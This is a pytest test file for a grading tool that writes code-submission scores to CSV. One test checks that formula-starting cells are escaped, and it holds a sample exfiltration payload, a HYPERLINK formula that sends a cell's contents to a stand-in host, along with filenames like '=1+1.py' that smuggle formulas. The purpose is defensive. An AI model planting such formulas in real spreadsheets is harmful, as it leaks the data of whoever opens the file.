"""harness.tools.submissions.grade: a folder of submissions -> one CSV row each; a broken one costs only its row."""

import csv
import stat

import pytest

from harness.tools.grading import sandbox
from harness.tools.submissions import grade, inert


def test_grade_folder(tmp_path):
    folder = tmp_path / "subs"
    folder.mkdir()
    (folder / "cheat.py").write_text("from torch.distributed.fsdp import fully_shard, MixedPrecisionPolicy\n")
    (folder / "hang.py").write_text("import torch\nwhile True:\n    pass\n")
    out = tmp_path / "points.csv"
    # Only the forward tests of one case, to keep this quick; graders run everything.
    grade.cli([str(folder), "--out", str(out), "--timeout", "60", "--", "-k", "world2-float32-float32 and forward"])
    rows = {r["submission"].rsplit("/", 1)[-1]: r for r in csv.DictReader(out.open())}
    assert rows["cheat.py"]["total"] == "0" and "uses PyTorch's FSDP2" in rows["cheat.py"]["failures"], rows["cheat.py"]
    assert rows["hang.py"]["total"] == "0" and "timed out" in rows["hang.py"]["failures"], rows["hang.py"]
    # Each submission's pictures beside the CSV: none here, and why (no profiled run; the session killed).
    said = {name: (tmp_path / "points-pictures" / name / "pictures.txt").read_text() for name in ("cheat", "hang")}
    assert "overlap.png: not drawn: tasks 2 and 3 did not run" in said["cheat"], said
    assert "no pictures: pytest did not reach the end of its session" in said["hang"], said


def test_csv_cells_are_text_not_formulas(tmp_path, monkeypatch):
    """A submission's file name and its failure messages are its own text: a cell that would start a
    formula (OWASP: = + - @ tab, carriage return) starts with a quote instead; numbers stay numbers.
    (grade() is replaced: what it returns is what the CSV must hold safely.)"""
    folder = tmp_path / "subs"
    folder.mkdir()
    (folder / "=1+1.py").write_text("x = 1\n")
    (folder / "@SUM(A1).py").write_text("y = 2\n")
    failures = {"=1+1.py": '=HYPERLINK("http://e.example/?"&A1,"open")', "@SUM(A1).py": "\t-2+3"}
    monkeypatch.setattr(grade, "grade", lambda path, timeout, pytest_args, artifacts=None: {
        "submission": path.name, "task 1 forward": 3, "total": -1, "failures": failures[path.name]})
    out = tmp_path / "points.csv"
    grade.cli([str(folder), "--out", str(out)])
    rows = {r["submission"]: r for r in csv.DictReader(out.open())}
    assert set(rows) == {"'=1+1.py", "'@SUM(A1).py"}, rows
    assert rows["'=1+1.py"]["failures"] == "'" + failures["=1+1.py"], rows
    assert rows["'@SUM(A1).py"]["failures"] == "'\t-2+3", rows
    assert rows["'=1+1.py"]["task 1 forward"] == "3" and rows["'=1+1.py"]["total"] == "-1", rows


@pytest.mark.parametrize("value, cell", [("=cmd", "'=cmd"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@x", "'@x"),
                                         ("\tx", "'\tx"), ("\rx", "'\rx"), ("a=b", "a=b"), ("-0.5", "-0.5"),
                                         ("-3", "-3"), (-3, -3), (0.5, 0.5), ("", "")])
def test_csv_cell(value, cell):
    assert inert.csv_cell(value) == cell


@pytest.mark.skipif(not sandbox.wanted(), reason="the sandbox user is taken only when the grader is root")
def test_what_grade_writes_is_closed_to_the_sandbox_user(tmp_path, monkeypatch):
    """The CSV (written row by row while later submissions run), the pictures and similarity.md (the others' code side
    by side) are closed to other users: no submission graded later in this batch or another reads them."""
    folder = tmp_path / "subs"
    folder.mkdir()
    (folder / "a.py").write_text("x = 1\n")
    seen = []

    def graded(path, timeout, pytest_args, artifacts=None):
        seen.extend(stat.S_IMODE(p.stat().st_mode) & 0o007 for p in (out, tmp_path / "points-pictures"))
        return {"submission": path.name, "total": 0, "failures": ""}

    monkeypatch.setattr(grade, "grade", graded)
    out = tmp_path / "points.csv"
    grade.cli([str(folder), "--out", str(out)])
    assert seen == [0, 0], seen
    assert stat.S_IMODE((tmp_path / "similarity.md").stat().st_mode) & 0o007 == 0


@pytest.mark.skipif(not sandbox.wanted(), reason="the sandbox user is taken only when the grader is root")
def test_pictures_in_a_shared_folder_are_refused(tmp_path, capsys):
    """Pictures go to a folder of the grading's own, which is closed: never one every user may write (/tmp)."""
    folder = tmp_path / "subs"
    folder.mkdir()
    (folder / "a.py").write_text("x = 1\n")
    with pytest.raises(SystemExit):
        grade.cli([str(folder), "--out", str(tmp_path / "points.csv"), "--pictures", "/tmp"])
    assert "--pictures /tmp is a folder every user may write" in capsys.readouterr().err
